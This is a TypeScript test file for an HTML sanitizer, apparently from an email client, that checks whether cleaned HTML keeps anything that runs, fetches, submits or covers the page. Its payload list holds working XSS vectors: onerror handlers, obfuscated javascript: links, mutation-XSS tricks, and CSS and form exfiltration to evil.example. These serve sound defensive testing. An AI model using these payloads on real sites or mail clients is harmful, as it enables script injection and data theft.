import { type DefaultTreeAdapterMap, parseFragment } from "parse5";
import { expect, test } from "vitest";
import { corporaSaying, samplesOf } from "#test/world/corpora.ts";
import { allowedAttributes, allowedElements, cleanHtml } from "./clean-html.ts";

type Element = DefaultTreeAdapterMap["element"];

/** Every element of the HTML as a browser's parser builds it, which is not the parser that cleaned it. */
function elementsOf(html: string): Element[] {
  const walk = (node: DefaultTreeAdapterMap["node"]): Element[] => [
    ...("tagName" in node ? [node] : []),
    ...("childNodes" in node ? node.childNodes.flatMap(walk) : []),
    ...("content" in node ? walk(node.content) : []),
  ];
  return walk(parseFragment(html));
}

const isAllowedAddress = (element: string, name: string, value: string): boolean => {
  if (name === "href") return /^(https?:\/\/|mailto:|tel:)/i.test(value);
  if (name === "src") return element === "img" && /^cid:\S+$/.test(value);
  if (name === "data-remote-src") return /^https?:\/\//i.test(value);
  return true;
};

/** What is left that must not be: an element, an attribute, an address or a style outside the lists. */
function leftovers(html: string): string[] {
  return elementsOf(html).flatMap(({ tagName, attrs }) => {
    const allowed = new Set([...allowedAttributes["*"]!, ...(allowedAttributes[tagName] ?? [])]);
    const wrong = attrs.filter(
      ({ name, value }) =>
        !allowed.has(name) ||
        !isAllowedAddress(tagName, name, value) ||
        (name === "style" &&
          /url|expression|position|import|behaviou?r|[\\@{}]|content|z-index|display|float/i.test(value)),
    );
    return [
      ...(allowedElements.includes(tagName) ? [] : [`<${tagName}>`]),
      ...wrong.map(({ name, value }) => `<${tagName} ${name}=${value}>`),
    ];
  });
}

const payloads = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)><style><img src=x onerror=alert(1)></style></svg>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
  "<a href='java&#10;script:alert(1)'>x</a><a href='&#x6a;avascript:alert(1)'>y</a><a href='data:text/html,<script>alert(1)</script>'>z</a>",
  "<a href=' javascript:alert(1)'>x</a><a href='//evil.example/x'>y</a><a href='/logout'>z</a>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe><object data=x></object><embed src=x>",
  "<form action=//evil.example><input name=p><button formaction=javascript:alert(1)>go</button></form>",
  "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example><link rel=stylesheet href=//evil.example>",
  "<style>input[value^=a]{background:url(//evil.example/a)}</style><p style='background:url(//evil.example/x);color:red'>x</p>",
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;color:red">x</p>',
  "<p style='width:expression(alert(1));behavior:url(x);-moz-binding:url(x)'>x</p>",
  '<p style="color:red;background:\\75rl(//evil.example)">x</p>',
  "<img src='http://evil.example/a.png' srcset='//evil.example/b 2x' background=//evil.example/c><table background=//evil.example/d><td>x",
  "<video src=//evil.example poster=//evil.example><source src=//evil.example></video><audio src=x onerror=alert(1)>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
  "<template><img src=x onerror=alert(1)></template><xmp><img src=x onerror=alert(1)></xmp><plaintext><img src=x onerror=alert(1)>",
  "<p id=location name=cookie class=hidden onclick=alert(1) data-x=1 data-remote-src=//evil.example>x</p>",
  "<img data-remote-src='javascript:alert(1)' src='cid:a\"onerror=alert(1)'><img src='data:image/svg+xml;base64,PHN2Zz4='>",
  `<div title="<img src=x onerror=alert(1)>">${"<b>".repeat(600)}x`,
];

test("S1 S3 nothing that runs, fetches, submits or covers the page is left of HTML", () => {
  for (const payload of payloads) expect(leftovers(cleanHtml(payload).html), payload).toEqual([]);
});

test("S1 S3 the search for leftovers finds them in what was not cleaned", () => {
  const found = payloads.filter((payload) => leftovers(payload).length > 0);
  expect(payloads.length - found.length).toBe(1); // The last one is dangerous by its depth alone.
});

test(`S1 nothing is left of thousands of script injections either${corporaSaying("hostile/xss")}`, () => {
  const lines = samplesOf("hostile/xss", /\.txt$/).flatMap(({ content }) => content.toString("utf8").split(/\r?\n/));
  const injections = [...new Set(lines.filter((line) => line.trim() !== "" && line.length < 4000))];
  const left = injections.filter((line) => leftovers(cleanHtml(`<div>${line}</div><p>after</p>`).html).length > 0);
  expect(left).toEqual([]);
});

test("S1 together they are no more dangerous than alone", () => {
  expect(leftovers(cleanHtml(payloads.join("\n")).html)).toEqual([]);
  expect(leftovers(cleanHtml(payloads.join("").replaceAll(">", "")).html)).toEqual([]);
});

test("U5 what people write is kept: text, tables, colours, links and their own pictures", () => {
  const { html } = cleanHtml(
    `<p style="color:#c00; font-size:14px; margin: 0 0 8px">您好 <b>急</b></p><table border="1"><tr><td colspan="2">A</td></tr></table>` +
      `<a href="https://example.com/?a=1&amp;b=2" onclick="x()">link</a> <a href="mailto:a@b.example">mail</a> <img src="cid:p1@x" width="10">`,
  );
  expect(html).toContain('<p style="color:#c00;font-size:14px;margin:0 0 8px">您好 <b>急</b></p>');
  expect(html).toContain('<td colspan="2">A</td>');
  expect(html).toContain(
    '<a href="https://example.com/?a=1&amp;b=2" rel="noopener noreferrer nofollow" target="_blank">link</a>',
  );
  expect(html).toContain('<img width="10" src="cid:p1@x" />');
});

test("S1 a picture from outside waits with its address until it is asked for", () => {
  const { html } = cleanHtml(
    '<img src="https://tracker.example/pixel.gif?id=1" alt="x"><img src="//cdn.example/a.png">',
  );
  expect(html).toContain('data-remote-src="https://tracker.example/pixel.gif?id=1"');
  expect(html).toContain('data-remote-src="https://cdn.example/a.png"');
  expect(html).not.toMatch(/\ssrc=/);
});

test("U5 a picture written into the HTML becomes a file that the HTML refers to, once however often it is shown", () => {
  const gif = "R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7";
  const { html, embedded } = cleanHtml(
    `<img src="data:image/gif;base64,${gif}"><img src="data:image/gif;base64,${gif}">`,
  );
  expect(embedded).toHaveLength(1);
  expect(embedded[0]?.content.toString("base64")).toBe(gif);
  expect(html.split(`src="cid:${embedded[0]?.cid}"`)).toHaveLength(3);
});
